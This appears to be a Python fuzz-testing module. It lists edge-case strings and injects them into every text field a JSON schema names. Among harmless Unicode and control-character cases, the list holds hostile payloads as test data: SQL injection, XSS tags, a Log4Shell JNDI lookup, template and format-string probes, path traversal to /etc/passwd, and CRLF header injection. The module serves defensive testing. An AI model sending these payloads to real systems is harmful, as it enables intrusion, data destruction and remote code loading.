"""Strings that broke programs, and where in a body they go: into every text field that a schema names."""

import copy
import itertools
import unicodedata
from collections.abc import Iterator
from typing import Any

Schema = dict[str, Any]
Path = tuple[str | int, ...]

STRINGS = [
    "",
    " ",
    "\t\n",
    "\0",
    "a\0b",
    "\x07\x08\x1b",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://example.org\x07link\x1b]8;;\x07",
    "\x9b2J",
    "\x7f",
    "\u0085",
    "\u2028\u2029",
    "\r\n\r\nSet-Cookie: a=b",
    "null",
    "undefined",
    "None",
    "NaN",
    "true",
    "0",
    "-1",
    "1e400",
    "2026-02-30",
    "0000-00-00T00:00:00Z",
    "9999-12-31T23:59:59-23:59",
    "'; DROP TABLE messages; --",
    "' OR 1=1 --",
    "%",
    "_",
    "\\",
    "$1",
    "${jndi:ldap://example.org/a}",
    "{{7*7}}",
    "%s%n%x",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "]]>",
    "**bold** `code` [x](javascript:alert(1))",
    "```",
    "```python\nprint(1)",
    "# heading",
    "@all @here @everyone",
    "/etc/passwd",
    "../../../etc/passwd",
    "C:\\nul",
    "con",
    "http://example.org/?q=a&b=c#d",
    "javascript:alert(1)",
    "\u202eevil\u202c",
    "\u2066a\u2069",
    "\u200f\u200e\u061c",
    "\u200b",
    "a\u200bb",
    "\ufeff",
    "a\ufeff",
    "\u00ad",
    "\u2800",
    "\u3164",
    "раypal",
    "аdmin",
    "ℌ𝔢𝔩𝔩𝔬",
    "ﬀ ﬁ",
    "ſ",
    "İ",
    "ß",
    "é",
    "e\u0301",
    "Å Å",
    "ק",
    "שלום עולם",
    "السلام عليكم",
    "नमस्ते",
    "日本語テキスト",
    "한국어",
    "ไทย",
    "👍",
    "👨‍👩‍👧‍👦",
    "🇫🇷",
    "👍🏽",
    "❤️",
    "1️⃣",
    "\U0001f595\U0001f3ff",
    "\U00010348",
    "\U000e0041\U000e007f",
    "\ufffd",
    "\uffff",
    "\U0010ffff",
    "\ue000",
    "Z" + "\u0300\u0301\u0302" * 30,
    "\u0300",
    "\u0e47" * 20,
    "a" * 101,
    "x" * 4_000,
    "x" * 4_001,
    "é" * 2_000,
    "👍" * 2_001,
    "ﷺ" * 300,
    "\ud800",
    "a\udfffb",
    "\udc00\ud800",
]
"""Empty, controls, escapes of terminals, words of languages, dates, injections, bidi and zero width, look-alikes, forms
of Unicode, scripts, emoji of several code points, floods of marks, long words, halves of surrogate pairs."""
FEW = ["", "null", "\0", "\ud800", "👍", "9" * 60, "2026-02-30", "AAAA====", "'; --"]
"""For fields that are no text, and strings in JSON all the same."""


def storable(text: str) -> bool:
    """Whether a string can be stored at all: no NUL, no half of a surrogate pair."""
    return "\0" not in text and not any("\ud800" <= sign <= "\udfff" for sign in text)


def composed(text: str) -> str:
    """Text as it is kept."""
    return unicodedata.normalize("NFC", text)


def named(text: str) -> str:
    """A name as it is kept: with no space around it."""
    return composed(text).strip()


def strings(schema: Schema, named: dict[str, Schema], at: Path = ()) -> Iterator[tuple[Path, bool]]:
    """Where a body has strings, and whether they are free text; free JSON has them as a value and as a key."""
    if "$ref" in schema:
        schema = named[schema["$ref"].rpartition("/")[2]]
    for each in (*schema.get("anyOf", ()), *schema.get("oneOf", ())):
        yield from strings(each, named, at)
    kind = schema.get("type")
    if kind == "string":
        is_plain = not schema.keys() & {"format", "enum", "const", "contentEncoding", "pattern"}
        yield at, is_plain
    elif kind == "array" and isinstance(schema.get("items"), dict):
        yield from strings(schema["items"], named, (*at, 0))
    elif kind == "object":
        for name, each in schema.get("properties", {}).items():
            yield from strings(each, named, (*at, name))
        if "properties" not in schema:
            yield (*at, "key"), True


def put(body: Any, at: Path, text: str) -> Any:
    """A body with a string in some place; what is missing on the way there is made up."""
    body = copy.deepcopy(body) if body is not None else {}
    here = body
    for step, following in itertools.pairwise(at):
        empty: Any = [None] if following == 0 else {}
        if isinstance(here, list) and not here:
            here.append(empty)
        if isinstance(here, dict):
            if here.get(step) in (None, [], {}):
                here[step] = empty
        elif here[step] is None:  # type: ignore[index]
            here[step] = empty  # type: ignore[index]
        here = here[step]  # type: ignore[index]
    here[at[-1]] = text  # type: ignore[index]
    return body
